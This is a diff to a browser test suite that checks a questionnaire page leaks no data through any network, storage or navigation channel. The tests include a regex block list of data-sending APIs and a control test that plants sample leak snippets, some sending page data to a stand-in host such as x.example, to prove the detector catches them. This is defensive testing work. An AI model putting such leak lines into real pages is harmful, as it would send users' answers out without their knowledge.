@@ -1,5 +1,5 @@
-// That nothing leaves the page: every channel is tried against an open policy, which must leak, and the page as built,
-// which must not; what no policy stops is looked for in the shipped code. It does not test what the page computes.
+// Tests that no data leaves the page. Every channel must leak from a page with an open policy and must not leak from
+// the built page. The shipped code must not use what no policy can block. It does not test what the page computes.
 import assert from "node:assert/strict";
 import { access } from "node:fs/promises";
 import { after, before, test } from "node:test";
@@ -10,7 +10,7 @@ import { engineOf } from "../embedded.mjs";
 import { launch, pageText } from "./driver.mjs";
 
 const FIREFOX = process.env.FIREFOX ?? "/usr/bin/firefox-esr";
-/** What Firefox, or this way of asking it, does not send even where everything is allowed: that proves nothing there. */
+/** Channels that do not leak from this Firefox even without a policy, and therefore prove nothing there. */
 const FIREFOX_KEEPS = [
   "audio",
   "font",
@@ -30,10 +30,10 @@ const BROWSERS = [
   { name: "Chromium", start: launch, keeps: [] },
   { name: "Firefox", start: startFirefox, keeps: FIREFOX_KEEPS },
 ];
-/** A page that has sent nothing by then, and in the time that the open page took, sends nothing. */
+/** The least time to wait for a leak. A test also waits longer than the open page took to leak. */
 const PATIENCE_MS = 1500;
 const MOST_MS = 10_000;
-/** A form that leads away may cut off what was tried before it, an icon above all: what did not come is tried again. */
+/** A form's submission can cancel earlier requests, such as that for an icon. Missing channels are then tried again. */
 const MOST_ROUNDS = 3;
 
 const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
@@ -49,7 +49,7 @@ async function startFirefox() {
   return puppeteer.launch({ browser: "firefox", executablePath: FIREFOX });
 }
 
-/** Serves one text as the page, opens it, and hands both over. */
+/** Serves a text as the page, opens it, and passes the page and the server to `steps`. */
 async function visit(browser, body, steps) {
   const server = await collect((path) => (path === "/page" ? { body } : null));
   const page = await browser.newPage();
@@ -57,7 +57,7 @@ async function visit(browser, body, steps) {
     await page.evaluateOnNewDocument(() => {
       globalThis.reports = [];
       document.addEventListener("iju:report", (event) => globalThis.reports.push(event.detail));
-      globalThis.print = () => window.dispatchEvent(new Event("beforeprint")); // what the printer would wait for
+      globalThis.print = () => window.dispatchEvent(new Event("beforeprint")); // a print dialog would block the test
     });
     await page.goto(`${server.own}/page`, { waitUntil: "load" });
     await page.waitForFunction(() => globalThis.reports.length > 0);
@@ -68,7 +68,7 @@ async function visit(browser, body, steps) {
   }
 }
 
-/** One question after another, some answered and some not known, to the result, the sheet, and a link. */
+/** Answers the questions, some with "I don't know", up to the result, then prints the sheet and makes a link. */
 async function session(page) {
   const click = (selector) => page.$eval(selector, (one) => one.click());
   await click("[data-js-screen=question]");
@@ -106,7 +106,7 @@ for (const { name, start, keeps } of BROWSERS) {
   });
   after(() => browser?.close());
 
-  test(`${name}: control: where everything is allowed, every channel leaks`, async () => {
+  test(`${name}: control: without a policy every channel leaks`, async () => {
     await visit(browser, unguarded, async (page, { hits, other }) => {
       let missing = null;
       for (; rounds < MOST_ROUNDS && missing?.length !== 0; rounds += 1) {
@@ -124,7 +124,7 @@ for (const { name, start, keeps } of BROWSERS) {
     });
   });
 
-  test(`${name}: the page as built leaks through no channel`, async () => {
+  test(`${name}: the built page leaks through no channel`, async () => {
     await visit(browser, real, async (page, { hits, other }) => {
       assert.ok(rounds > 0, "the open page was tried before");
       for (let round = 0; round < rounds; round += 1) {
@@ -135,10 +135,10 @@ for (const { name, start, keeps } of BROWSERS) {
     });
   });
 
-  test(`${name}: a whole session, to print and link, works without a network, asks for nothing and keeps nothing`, async () => {
+  test(`${name}: a whole session with print and link works offline, requests nothing and stores nothing`, async () => {
     await visit(browser, real, async (page, server) => {
       const requests = [];
-      // Firefox lists the marks of its own controls, which lie in it as data and ask nobody.
+      // Firefox reports the icons of its own controls as requests of data URLs.
       page.on("request", (request) => request.url().startsWith("data:") || requests.push(request.url()));
       await server.close();
       if (name === "Chromium") await page.setOfflineMode(true);
@@ -159,16 +159,18 @@ for (const { name, start, keeps } of BROWSERS) {
   });
 }
 
-/** What the script may do of the things that are looked for, and how often: a use more or less is a change to look at. */
+/** The allowed uses of suspicious names, each with its exact number. Any other number needs a review. */
 const ALLOWED = [
-  [/\.location\.hash===/g, 1], // is everything to be shown at once?
-  [/\{(?:\w+:\w+,?)+\}=this\.#\w+\.location(?=[,;])/g, 3], // the page's own address is read: for a link, on arrival, to clean it
-  [/\bwindow\.parent\.postMessage\(\{type:"iju-check",\.\.\.\w+\},"\*"\)/g, 1], // a page around this one is told of a height or a new screen
-  [/\bnavigator\.clipboard\.writeText\(/g, 1], // the link is copied when asked for
-  [/\bsetAttribute\("href",/g, 1], // answers are carried to the page's other languages, in the fragment
+  [/\.location\.hash===/g, 1], // reads whether to show everything at once
+  // Reads the page's own address: to make a link, to read one, and to remove the answers from the address.
+  [/\{(?:\w+:\w+,?)+\}=this\.#\w+\.location(?=[,;])/g, 3],
+  // Tells the host page a height or a new screen.
+  [/\bwindow\.parent\.postMessage\(\{type:"iju-check",\.\.\.\w+\},"\*"\)/g, 1],
+  [/\bnavigator\.clipboard\.writeText\(/g, 1], // copies the link on request
+  [/\bsetAttribute\("href",/g, 1], // puts the answers into the fragment of a language link
 ];
 
-/** Whatever sends, navigates, opens, or reaches a name that could not be read here. */
+/** Names that send, navigate or open a window, and ways to reach a name that this test could not read. */
 const FORBIDDEN = [
   /\b(?:fetch|fetchLater|XMLHttpRequest|sendBeacon|WebSocket\w*|WebTransport|EventSource|\w*RTC[A-Z]\w*)\b/g,
   /\b(?:Shared)?Worker\b|\bserviceWorker\b|\bimportScripts\b|\bimport\b|\bWorklet\b|\baddModule\b/g,
@@ -182,7 +184,7 @@ const FORBIDDEN = [
   /\b(?:local|session)Storage\b|\bindexedDB\b|\bcaches\b|\bcookie\w*\b/g,
 ];
 
-/** Everything in a script that could send something off, with what stands around it. */
+/** All uses in a script that could send data, with the code around them. */
 function suspects(script) {
   let rest = script;
   const found = [];
@@ -200,11 +202,11 @@ function suspects(script) {
 
 const scriptOf = (text) => /<script type="module">([\s\S]*?)<\/script>/.exec(text)[1];
 
-test("nothing in the script can do what no policy stops: navigate, open a window, refresh, or call another computer", () => {
+test("the script uses nothing that no policy can block, such as navigation or a new window", () => {
   assert.deepEqual(suspects(scriptOf(real)), []);
 });
 
-test("control: a planted leak of any kind is found in the script", () => {
+test("control: the search finds every kind of planted leak in the script", () => {
   const script = scriptOf(real);
   const planted = [
     "location='https:/'+'/x.example?'+a",
@@ -217,7 +219,7 @@ test("control: a planted leak of any kind is found in the script", () => {
     "window[b](a)",
     "globalThis?.[b](a)",
     "e.href=a;e.click()",
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the planted line itself is a template.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the planted line is itself a template literal.
     "e.href=`//x?${a}`",
     'e.setAttribute("href",a)',
     'm.httpEquiv="refresh"',
@@ -246,7 +248,7 @@ test("control: a planted leak of any kind is found in the script", () => {
   for (const leak of planted) assert.notDeepEqual(suspects(`${script};${leak};`), [], leak);
 });
 
-test("the module takes in nothing that could reach beyond the page", async () => {
+test("the module imports nothing that could reach beyond the page", async () => {
   const module = await WebAssembly.compile(engineOf(real));
   const taken = WebAssembly.Module.imports(module).map(
     ({ name, kind }) => `${kind} ${name.replace(/_[0-9a-f]{16}$/, "").replace("__wbg_", "")}`,
@@ -265,7 +267,7 @@ test("the module takes in nothing that could reach beyond the page", async () =>
   );
 });
 
-test("the markup around the script starts nothing either", () => {
+test("the markup around the script loads and starts nothing", () => {
   const markup = real.replace(/<(style|script)[\s\S]*?<\/\1>/g, "");
   assert.equal(markup.match(/http-equiv/gi).length, 1, "the policy, and no refresh");
   assert.doesNotMatch(markup, /<(base|link|img|iframe|object|embed|video|audio|source|portal)\b/i);
